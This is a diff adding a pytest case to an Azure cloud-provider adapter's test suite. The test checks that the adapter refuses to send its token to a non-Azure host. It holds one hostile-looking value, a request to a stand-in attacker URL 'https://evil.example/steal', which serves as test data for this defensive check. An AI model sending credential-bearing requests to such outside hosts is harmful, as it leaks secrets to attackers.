@@ -127,6 +127,15 @@ def test_offers_from_skus_and_retail_prices(az):
     assert sum(1 for r in az.requests if r["path"].endswith("/Microsoft.Compute/skus")) > 3
 
 
+def test_token_is_never_sent_outside_arm(az):
+    from providers.adapters.base import PermanentError
+
+    a = adapter(az)
+    with pytest.raises(PermanentError, match="evil.example"):
+        a._arm("GET", "https://evil.example/steal?api-version=1")
+    assert not any(r["path"] == "/steal" for r in az.requests)
+
+
 def test_allowed_regions_narrow_the_query(az):
     a = AzureAdapter(credentials(), {**account_settings("https://x"), "locations": [], "allowed_regions": ["westeurope"]},
                      transport=az.transport())
